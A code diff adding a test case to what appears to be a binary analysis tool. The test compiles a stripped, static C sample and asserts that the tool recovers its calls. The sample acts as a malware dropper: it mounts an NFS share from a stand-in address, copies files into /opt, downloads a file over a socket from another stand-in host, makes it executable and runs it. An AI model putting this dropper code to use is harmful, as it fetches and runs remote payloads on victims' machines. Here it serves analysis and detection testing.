@@ -206,6 +206,73 @@ int main(int argc, char **argv) {
   EXPECT_TRUE(p.calls[handler[0]].reached_from.front().starts_with("signal:"));
 }
 
+// Nothing in it has a name: neither the program's functions nor the C library's that was linked in.
+TEST_P(EveryBuild, a_static_program_without_symbols) {
+  const auto run = analyse_source(GetParam(), R"(
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static char server[64];
+static void __attribute__((noinline)) build(char *out, const char *host) { strcpy(out, "mount -t nfs "); strcat(out, host); strcat(out, ":/pm /mnt"); }
+static int __attribute__((noinline)) run(const char *c) { int rc = system(c); if (rc) printf("failed %d\n", rc); return rc; }
+int main(int argc, char **argv) {
+  char cmd[256], block[300]; int n;
+  if (argc > 1 && strcmp(argv[1], "--help") == 0) { puts("usage: program"); return 0; }
+  strcpy(server, "198.51.100.7");
+  build(cmd, server);
+  if (run(cmd) == 0) {
+    snprintf(cmd, sizeof cmd, "cp -rf %s/* /opt/bin%d", "/mnt", 7);
+    run(cmd);
+  }
+  mount("198.51.100.8:/x", "/mnt2", "nfs", MS_NOATIME, "nolock");
+  struct sockaddr_in a;
+  memset(&a, 0, sizeof a); a.sin_family = AF_INET; a.sin_port = htons(5150); a.sin_addr.s_addr = htonl(0xC6336409);
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) return 1;
+  int f = open("/tmp/new", O_WRONLY | O_CREAT, 0644);
+  while ((n = recv(s, block, sizeof block, 0)) > 0) write(f, block, n);
+  close(f);
+  chmod("/tmp/new", 0755);
+  FILE *list = fopen("/tmp/list", "w");
+  fprintf(list, "%s\n", server);
+  fclose(list);
+  char *const args[] = {"new", "-d", 0};
+  execv("/tmp/new", args);
+  return 0;
+})", "-static -s -fno-pie -no-pie");
+  if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler << " and its static C library";
+  ASSERT_TRUE(run.program);
+  const auto& p = *run.program;
+  const auto mounts = calls_with(p, "system", 0, "mount -t nfs 198.51.100.7:/pm /mnt");
+  const auto copies = calls_with(p, "system", 0, "cp -rf /mnt/* /opt/bin7");
+  ASSERT_EQ(mounts.size(), 1u) << all_calls(p);
+  ASSERT_EQ(copies.size(), 1u) << all_calls(p);
+  EXPECT_TRUE(contains(p.calls[copies[0]].guards, mounts[0])) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "mount", 0, "198.51.100.8:/x").size(), 1u) << all_calls(p);
+  std::uint32_t connect = UINT32_MAX, recv = UINT32_MAX, write = UINT32_MAX;
+  for (std::uint32_t i = 0; i < p.calls.size(); ++i) {
+    if (p.calls[i].callee == "connect") connect = i;
+    if (p.calls[i].callee == "recv") recv = i;
+    if (p.calls[i].callee == "write") write = i;
+  }
+  ASSERT_NE(connect, UINT32_MAX) << all_calls(p);
+  ASSERT_NE(write, UINT32_MAX) << all_calls(p);
+  ASSERT_TRUE(p.calls[connect].endpoint);
+  EXPECT_EQ(p.calls[connect].endpoint->address, "198.51.100.9");
+  EXPECT_EQ(p.calls[connect].endpoint->port, 5150);
+  EXPECT_TRUE(contains(p.calls[write].feeds, recv)) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "chmod", 0, "/tmp/new").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "fopen", 0, "/tmp/list").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "fprintf", 1, "198.51.100.7\n").size(), 1u) << all_calls(p);
+  EXPECT_EQ(calls_with(p, "execv", 0, "/tmp/new").size(), 1u) << all_calls(p);
+}
+
 TEST_P(EveryBuild, equal_inputs_give_equal_bytes) {
   const auto run = analyse_source(GetParam(), "#include <stdlib.h>\nint main(int c, char **v) { return system(c > 1 ? v[1] : \"id\"); }");
   if (run.bytes.empty()) GTEST_SKIP() << "needs the cross compiler " << GetParam().compiler;
